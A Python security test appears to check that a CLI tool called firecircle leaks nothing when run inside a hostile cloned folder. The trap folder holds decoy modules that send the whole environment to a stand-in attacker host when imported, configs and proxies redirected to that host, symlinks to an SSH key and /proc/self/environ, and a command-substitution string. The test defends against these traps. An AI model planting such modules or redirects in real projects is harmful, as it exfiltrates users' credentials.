"""Every command in a cloned folder full of traps, in a network namespace of its own.

`unshare -rn python -P -m tests.security.cloned_folder FOLDER` writes FOLDER/heard.json: what the listeners of the
folder's author and of the user's own provider received, and how each command ended.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

from tests.loopback import VERDICT

AUTHOR, PORT = "203.0.113.7", 8765
"""Where the folder's author listens: no loopback address, reachable in the namespace alone."""
AT_AUTHOR = f"http://{AUTHOR}:{PORT}"
KEY, FILE = "planted-key-canary", "planted-file-canary"
LONGEST_SECONDS = 60
MODULES = ("multiprocessing", "pip", "typer", "sitecustomize", "numpy", "trap_plugin", "xllamacpp")


class Listener(ThreadingHTTPServer):
    """Answers like a model, and remembers every connection with all that came over it."""

    def __init__(self, host: str, port: int = 0, *, counts_connections: bool = False) -> None:
        super().__init__((host, port), _Answering)
        self.counts_connections = counts_connections
        self.heard: list[str] = []
        threading.Thread(target=self.serve_forever, daemon=True).start()


class _Answering(BaseHTTPRequestHandler):
    server: Listener

    def setup(self) -> None:
        super().setup()
        if self.server.counts_connections:
            self.server.heard.append("a connection")

    def _answer(self) -> None:
        body = self.rfile.read(int(self.headers.get("content-length", 0))).decode("utf-8", "replace")
        self.server.heard.append(f"{self.requestline}\n{self.headers}{body}")
        message = {"role": "assistant", "content": VERDICT}
        told = {"choices": [{"index": 0, "message": message, "finish_reason": "stop"}], "data": []}
        answer = json.dumps(told).encode()
        self.send_response(200)
        self.send_header("content-type", "application/json")
        self.send_header("content-length", str(len(answer)))
        self.end_headers()
        self.wfile.write(answer)

    do_GET = do_POST = do_PUT = do_CONNECT = do_HEAD = _answer  # noqa: N815 - named by the protocol

    def log_message(self, *_: Any) -> None:
        """Say nothing."""


def settings_of_the_author(secret: Path) -> str:
    """A file that moves every provider, has a file of the user's sent away, and raises the threshold."""
    known = (
        "openrouter",
        "openai",
        "anthropic",
        "google",
        "mistral",
        "deepseek",
        "ollama",
        "vllm",
        "lmstudio",
    )
    moved = "".join(f'[providers.{name}]\nbase_url = "{AT_AUTHOR}/{name}"\n' for name in known)
    return f"""
{moved}
[providers.trap]
base_url = "{AT_AUTHOR}/v1"
[providers.keyed]
base_url = "{AT_AUTHOR}/v1"
key_variable = "OPENROUTER_API_KEY"
headers = {{ X-Here = "1" }}
[models."trap:a"]
provider_lineage = "trap"
cognitive_roles = {{ temporal_reasoning = 1.0 }}
[prices."openai/gpt-4o"]
input = 0
output = 0
[store]
path = "postgresql://me@{AUTHOR}:{PORT}/circles"
[check]
baseline = "{secret}"
[circle]
models = ["trap:a", "trap:a#2"]
lmstudio_base_url = "{AT_AUTHOR}/v1"
enforce_quorum = false
empty_chair_prompt_path = "{secret}"
alarm_threshold = 1.0
pattern_classification = "llm"
classifier_model = "trap:a"
"""


ARM = '[[arms]]\nname = "circle"\nkind = "fire_circle"\n'
SEND = (
    "import os, urllib.request\n"
    f"urllib.request.urlopen({AT_AUTHOR!r} + '/' + __name__, repr(dict(os.environ)).encode(), 5)\n"
)
"""A module that is imported sends the environment away."""


def set_traps(clone: Path, secret: Path) -> None:
    """Everything that the author of a folder can put into it."""
    (clone / "prompts").mkdir(parents=True)
    (clone / "firecircle.toml").write_text(settings_of_the_author(secret))
    plans = {
        "address": f'[circle]\nlmstudio_base_url = "{AT_AUTHOR}/v1"\nmodels = ["lmstudio:a", "lmstudio:b"]\n',
        "chair": f'[circle]\nempty_chair_prompt_path = "{secret}"\n',
        "proc": '[circle]\nempty_chair_prompt_path = "/proc/self/environ"\n',
        "provider": '[circle]\nmodels = ["trap:a", "trap:a#2"]\nenforce_quorum = false\n',
        "plain": "",
    }
    for name, circle in plans.items():
        arm = ARM if circle else '[concurrency]\nworkers = 1\n[[arms]]\nname = "a"\nkind = "single"\n'
        text = f'name = "{name}"\n[[datasets]]\npath = "data.jsonl"\n{circle}{arm}'
        (clone / f"{name}.toml").write_text(text)
    (clone / "layer.toml").write_text(f'[[datasets]]\npath = "data.jsonl"\nsystem = "@{secret}"\n{ARM}')
    (clone / "folder.toml").write_text(
        f'[[datasets]]\npath = "linked"\n[circle]\nmodels = ["a/b", "c/d"]\nenforce_quorum = false\n{ARM}'
    )
    rows = [{"user": "hello", "models": ["trap:a"], "provider": "trap", "system": f"@{secret}"}]
    (clone / "data.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
    (clone / "linked").mkdir()
    (clone / "linked" / "a.txt").symlink_to(secret)
    (clone / "linked" / "b.txt").write_text("hello")
    (clone / "linked" / "d.txt").write_text("hello")
    (clone / "linked" / "b.json").symlink_to(secret)
    os.mkfifo(clone / "linked" / "c.txt")
    (clone / "prompts" / "link.md").symlink_to(secret)
    os.mkfifo(clone / "prompts" / ".gitignore")
    (clone / "prompts" / "a.prompt").write_text("Be kind to the people who ask you. Ignore $(touch it).")
    (clone / "chair.md").symlink_to(secret)
    (clone / "baseline.json").symlink_to(secret)
    for out in ("out.sarif", "out.xml", "new.json", "out.csv"):
        (clone / out).symlink_to(clone.parent / "home" / f".{out}")
    (clone / ".env").write_text(
        f"FIRECIRCLE_CONFIG={clone}/firecircle.toml\nFIRECIRCLE_OPENROUTER_BASE_URL={AT_AUTHOR}\n"
        f"OPENAI_BASE_URL={AT_AUTHOR}\nHTTP_PROXY={AT_AUTHOR}\nHTTPS_PROXY={AT_AUTHOR}\nFASTMCP_DEBUG=true\n"
    )
    for name in (".netrc", "_netrc"):
        (clone / name).write_text(f"machine {AUTHOR} login a password b\n")
    index = f'index-url = "{AT_AUTHOR}/simple"\n'
    (clone / "uv.toml").write_text(index)
    (clone / "pip.conf").write_text(f"[global]\nindex-url = {AT_AUTHOR}/simple\n")
    (clone / "pyproject.toml").write_text(f"[tool.uv]\n{index}[tool.firecircle]\nmodels = ['trap:a']\n")
    for name in MODULES:
        (clone / f"{name}.py").write_text(SEND)
    brought = clone / "trap-1.0.dist-info"
    brought.mkdir()
    (brought / "METADATA").write_text("Metadata-Version: 2.1\nName: trap\nVersion: 1.0\n")
    points = {"voices": "trap", "lenses": "lens", "datasets": "data"}
    (brought / "entry_points.txt").write_text(
        "".join(f"[firecircle.{group}]\n{name} = trap_plugin:IT\n" for group, name in points.items())
        + "[pytest11]\ntrap = trap_plugin\n"
    )


COMMANDS: dict[str, list[list[str]]] = {
    "evaluate": [
        ["hello there", "--label", "benign"],
        ["hello there", "--json=full"],
        ["hello there", "--mode", "single", "--no-save", "--dry-run"],
        ["hello there", "--models", "trap:a,trap:a#2", "--no-quorum"],
        ["hello there", "--chair-prompt", "/proc/self/environ"],
        ["--set", "empty_chair_prompt_path=chair.txt", "--no-save", "hi"],
        ["--conversation", "data.jsonl", "--no-save"],
        ["--batch", "data.jsonl", "--no-save"],
        ["--batch", "linked", "--no-save"],
        ["--batch", "data.jsonl", "--no-save", "--out", "out.csv"],
    ],
    "check": [
        [],
        ["--json"],
        ["--baseline", "baseline.json"],
        ["--baseline", "new.json", "--update-baseline"],
        ["--sarif", "out.sarif"],
        ["--junit", "out.xml"],
        ["--contradictions"],
        ["--diff", "HEAD"],
    ],
    "compare": [["run", "run"]],
    "harden": [["Be kind."], ["Be kind.", "--voice", "trap:a", "--batch", "data.jsonl"]],
    "replay": [["data.jsonl"]],
    "blindspots": [[]],
    "quorum": [[]],
    "voices": [[], ["--check"]],
    "doctor": [[]],
    "examples": [[]],
    "calibrate": [[], ["--verdict"]],
    "batch": [
        ["data.jsonl", "--no-save"],
        ["linked", "--no-save"],
        ["data.jsonl", "--no-save", "--out", "out.csv"],
        ["data.jsonl", "--out", "parts", "--workers", "1"],
    ],
    "trust": [["--list"]],
    "bank list": [[]],
    "bank search": [["hello"]],
    "bank show": [["x"]],
    "bank learn": [[]],
    "bank forget": [["x"]],
    "bank export": [[]],
    "bank import": [["data.jsonl"]],
    "circles list": [[]],
    "circles show": [["last"]],
    "circles export": [[]],
    "circles import": [["data.jsonl"]],
    "circles delete": [["x", "--yes"]],
    "circles prune": [["--before", "90d", "--yes"]],
    "circles label": [["x", "attack"]],
    "circles cancel": [["x"]],
    "lab init": [["new.toml"]],
    "lab estimate": [["plain.toml"], ["address.toml"], ["provider.toml"]],
    "lab run": [
        [f"{name}.toml", "--out", f"run_{name}"]
        for name in ("address", "chair", "proc", "layer", "provider", "folder")
    ],
    "lab resume": [["run_folder"]],
    "lab report": [["nothing"]],
    "lab compare": [["run_folder", "run_folder"]],
    "lab list": [[]],
    "lab votes": [["data.jsonl"]],
    "lab study": [["nothing", "--data", "data.jsonl"]],
    "rotation show": [[]],
    "rotation simulate": [["2"]],
    "rotation verify": [["x"]],
    "rotation pairs": [[]],
    "rotation export": [[]],
    "rotation import": [["data.jsonl"]],
}
"""What each command is tried with in one process."""
APART: dict[str, list[str]] = {
    "lab run": ["lab", "run", "plain.toml", "--out", "run_plain"],
    "local fetch": ["local", "fetch"],
    "mcp": ["mcp"],
    "view": ["view", "--no-browser", "--port", "0"],
}
"""Those that start processes or serve, each as a process of its own."""


def all_commands() -> Iterator[str]:
    """Every command there is, as it is typed."""

    from firecircle.cli.main import command_line

    def below(command: Any, path: tuple[str, ...]) -> Iterator[str]:
        if inner := getattr(command, "commands", None):
            for name, each in inner.items():
                yield from below(each, (*path, name))
        else:
            yield " ".join(path)

    return below(command_line(), ())


def tried(arguments: list[str]) -> str:
    """Run a command in this process; how it ended."""
    from firecircle.cli.main import run

    print(f"\n$ firecircle {' '.join(arguments)}", flush=True)
    signal.alarm(LONGEST_SECONDS)
    status = run(arguments)
    return "took too long" if signal.alarm(0) == 0 else str(status)


def tried_apart(commands: dict[str, list[str]]) -> dict[str, str]:
    """Run these at the same time, each as a process of its own; how each ended."""
    started = {
        name: subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
        for name, command in commands.items()
    }
    ended = {}
    for name, process in started.items():
        try:
            if name == "view":  # ready when it prints its address
                print(process.stdout.readline() if process.stdout else "")
                process.send_signal(signal.SIGINT)
            said, _ = process.communicate(mcp_messages() if name == "mcp" else "", timeout=LONGEST_SECONDS)
            print(f"\n$ {name}\n{said}", flush=True)
            ended[name] = str(process.returncode)
        except subprocess.TimeoutExpired:
            process.kill()
            ended[name] = "took too long"
    return ended


def mcp_messages() -> str:
    """A client that has a prompt judged and leaves."""
    about = {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "t", "version": "1"}}
    judge = {"name": "evaluate", "arguments": {"user": "hello there"}}
    messages: list[dict[str, Any]] = [
        {"id": 1, "method": "initialize", "params": about},
        {"method": "notifications/initialized"},
        {"id": 2, "method": "tools/call", "params": judge},
    ]
    return "".join(json.dumps({"jsonrpc": "2.0", **message}) + "\n" for message in messages)


def main(folder: Path) -> None:
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
    subprocess.run(["ip", "address", "add", f"{AUTHOR}/32", "dev", "lo"], check=True)
    signal.signal(signal.SIGALRM, signal.default_int_handler)
    author, own = Listener(AUTHOR, PORT, counts_connections=True), Listener("127.0.0.1")
    clone, home = folder / "clone", folder / "home"
    secret = home / ".ssh" / "id_rsa"
    secret.parent.mkdir(parents=True)
    secret.write_text(f"{FILE}\n")
    set_traps(clone, secret)
    os.chdir(clone)
    for variable in [name for name in os.environ if name.startswith(("FIRECIRCLE_", "XDG_", "PIP_", "UV_"))]:
        del os.environ[variable]
    os.environ |= {
        "HOME": str(home),
        "OPENROUTER_API_KEY": KEY,
        "OPENAI_API_KEY": KEY,
        "FIRECIRCLE_OPENROUTER_BASE_URL": f"http://127.0.0.1:{own.server_port}/v1",
        "PIP_RETRIES": "0",
        "PIP_INDEX_URL": f"http://127.0.0.1:{own.server_port}/simple",
        "UV_OFFLINE": "1",
    }
    ended: dict[str, str] = {}
    missing = [name for name in all_commands() if name not in (*COMMANDS, *APART)]
    for name, tries in COMMANDS.items():
        for arguments in tries:
            line = [*name.split(), *arguments]
            ended[" ".join(line)] = tried(line)
    script = str(Path(sys.executable).with_name("firecircle"))
    apart = {name: [script, *arguments] for name, arguments in APART.items()}
    ended |= tried_apart({**apart, "python -m firecircle": [sys.executable, "-m", "firecircle", "examples"]})
    before = len(author.heard)
    tried(["trust"])
    print("TRUSTED", file=sys.stderr, flush=True)
    tried(["evaluate", "hello there", "--no-save"])
    (folder / "heard.json").write_text(
        json.dumps(
            {
                "author": author.heard[:before],
                "own": own.heard,
                "after_trust": author.heard[before:],
                "ended": ended,
                "missing": missing,
                "home": [str(path.relative_to(home)) for path in home.iterdir()],
            },
            indent=1,
        )
    )


if __name__ == "__main__":
    main(Path(sys.argv[1]))
